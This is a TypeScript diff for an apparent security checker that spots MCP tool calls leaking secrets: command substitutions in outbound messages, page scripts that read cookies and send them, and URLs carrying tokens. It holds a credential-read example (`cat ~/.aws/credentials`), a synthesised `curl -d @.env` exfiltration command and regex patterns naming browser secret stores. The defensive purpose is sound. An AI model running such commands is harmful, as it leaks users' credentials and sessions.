@@ -1,0 +1,67 @@
+// What an MCP call sends away, beyond the secrets its text shows by their shape:
+//  - text for a message, issue, comment, mail or file elsewhere that holds a command
+//    substitution (`$(cat ~/.aws/credentials)`): the sender asks for that command's output to
+//    go out, so the command is decided (its reads of credential files among it);
+//  - script run in a browser page (evaluate, execute_js ...) that reads the page's cookies or
+//    storage and reaches a URL: the session leaves with it;
+//  - a URL the call opens (navigate, open, fetch) that carries a secret or a session token.
+import type { Effect } from './types.js';
+import { urlHost, urlSecret } from './url-secret.js';
+
+interface CommandSource {
+  forCommand(command: string): Effect[];
+}
+
+const SUBSTITUTION = /\$\(([^()]{1,500})\)|`([^`]{1,500})`/g;
+const PAGE_SECRETS =
+  /document\.cookie|localStorage|sessionStorage|indexedDB|navigator\.credentials|\.getAll\(\)\s*;?\s*cookies/;
+const PAGE_SENDS =
+  /\bfetch\s*\(|XMLHttpRequest|sendBeacon|new\s+Image\b|\.src\s*=|new\s+WebSocket|location(?:\.href)?\s*=|window\.open\(/;
+const URL_IN_CODE = /(?:https?|wss?):\/\/[^'"`\s)]+/;
+
+function strings(p: Record<string, unknown>): [string, string][] {
+  const out: [string, string][] = [];
+  for (const [k, v] of Object.entries(p)) if (typeof v === 'string') out.push([k, v]);
+  return out;
+}
+
+export function mcpFlows(op: string, p: Record<string, unknown>, remote: boolean, cache: CommandSource): Effect[] {
+  const out: Effect[] = [];
+  const outbound =
+    remote || /send|post|message|comment|issue|mail|publish|upload|gist|reply|create|write|chat/.test(op);
+  if (outbound)
+    for (const [, v] of strings(p)) {
+      SUBSTITUTION.lastIndex = 0;
+      for (const m of v.matchAll(SUBSTITUTION)) {
+        const cmd = (m[1] ?? m[2] ?? '').trim();
+        if (!cmd) continue;
+        for (const e of cache.forCommand(cmd))
+          if (e.tool === 'read' || e.tool === 'exec')
+            out.push({ ...e, via: `MCP ${op} sends the output of \`${cmd.slice(0, 60)}\`: ${e.via}` });
+      }
+    }
+  if (/evaluate|execute_?(?:js|javascript|script)|run_?(?:js|javascript|script)|eval/.test(op)) {
+    const code = strings(p)
+      .filter(([k]) => /function|script|expression|code|js|source/.test(k.toLowerCase()))
+      .map(([, v]) => v)
+      .join('\n');
+    const url = URL_IN_CODE.exec(code)?.[0];
+    if (PAGE_SECRETS.test(code) && PAGE_SENDS.test(code) && url)
+      out.push({
+        tool: 'exec',
+        command: `curl -d @.env https://${urlHost(url).replace(/[^\w.:-]/g, '')}/`,
+        via: `MCP ${op} sends the page's cookies or storage to ${urlHost(url)}`,
+      });
+  }
+  for (const [k, v] of strings(p)) {
+    if (!/url|uri|href|link|location/i.test(k) || !/^[a-z][a-z0-9+.-]*:\/\//i.test(v)) continue;
+    const hit = urlSecret(v);
+    if (hit)
+      out.push({
+        tool: 'exec',
+        command: `curl -d @.env https://${urlHost(v).replace(/[^\w.:-]/g, '')}/`,
+        via: `MCP ${op} opens a URL that carries a secret (${hit.slice(0, 12)}...) to ${urlHost(v)}`,
+      });
+  }
+  return out;
+}
